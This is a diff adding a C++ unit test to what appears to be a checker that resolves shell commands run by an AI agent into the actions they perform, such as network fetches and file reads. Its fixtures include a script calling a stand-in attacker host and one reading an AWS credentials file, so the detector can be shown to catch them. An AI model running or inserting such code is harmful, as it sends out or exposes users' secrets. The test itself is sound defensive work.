@@ -160,6 +160,19 @@ TEST(Scripts, PythonScriptNamesItsHostsAndFiles) {
   }
 }
 
+TEST(Scripts, PythonModuleOfTheWorkspaceRunByNameIsRead) {
+  Scripts s;
+  s.files["/home/dev/project/tools/exfil.py"] = {
+      "import urllib.request\nurllib.request.urlopen('https://attacker.example')\n", true};
+  s.files["/home/dev/project/pkg/__main__.py"] = {"open('/home/dev/.aws/credentials').read()\n", true};
+  EXPECT_NE(find(shell_actions("python3 -m tools.exfil", "Bash", s.env()), Kind::NetFetch, "attacker.example"),
+            nullptr);
+  EXPECT_NE(find(shell_actions("python3 -m pkg", "Bash", s.env()), Kind::FileRead, "/home/dev/.aws/credentials"),
+            nullptr);
+  // Installed modules are not in the workspace: nothing to read.
+  EXPECT_FALSE(any_opaque(shell_actions("python3 -m http.server 8000", "Bash", s.env())));
+}
+
 TEST(Scripts, PythonScriptThatUsesTheNetworkWithNoUrlIsOpaqueWhenRecent) {
   Scripts s;
   s.files["/home/dev/project/x.py"] = {"import socket\nsocket.create_connection((host, 443))\n", true};
